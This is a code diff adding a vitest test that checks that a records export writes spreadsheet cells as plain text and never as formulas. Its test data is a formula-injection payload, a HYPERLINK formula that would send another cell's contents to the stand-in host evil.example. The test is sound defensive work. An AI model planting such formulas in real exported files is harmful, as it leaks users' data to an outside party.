@@ -1,5 +1,6 @@
-import { rm } from 'node:fs/promises'
+import { readFile, rm } from 'node:fs/promises'
 import { join } from 'node:path'
+import { strFromU8, unzipSync } from 'fflate'
 import { describe, expect, it } from 'vitest'
 import type { RecordFile } from '../record-file.ts'
 import { emptyUniversity, exportFiles, importFiles } from '../test-records.ts'
@@ -143,5 +144,21 @@ describe('what is exported', () => {
       ]).toEqual(exported[table])
     await expect(writeRecords(path, exportRecords(url, { only }))).rejects.toThrow(/new (folder|file|one)/)
     await rm(path, { recursive: true })
+  })
+
+  it('has texts in a workbook, and no formula', async () => {
+    const path = join(await newDir(), 'records.xlsx')
+    const cell = '=HYPERLINK("http://evil.example/?"&C2,"Tbilisi")'
+    const tables = async function* () {
+      const rows = async function* () {
+        yield ['U1', cell]
+      }
+      yield { name: 'students', columns: ['code', 'address_ka'], rows: rows() }
+    }
+    await writeRecords(path, tables())
+    const sheet = strFromU8(unzipSync(await readFile(path))['xl/worksheets/sheet1.xml']!)
+    expect(sheet).not.toMatch(/<f[ >]/)
+    expect(sheet.match(/<c t="inlineStr"[^>]*><is><t[^>]*>=HYPERLINK/g)).toHaveLength(1)
+    expect((await read(path)).tables[0]?.rows).toEqual([[2, 'U1', cell]])
   })
 })
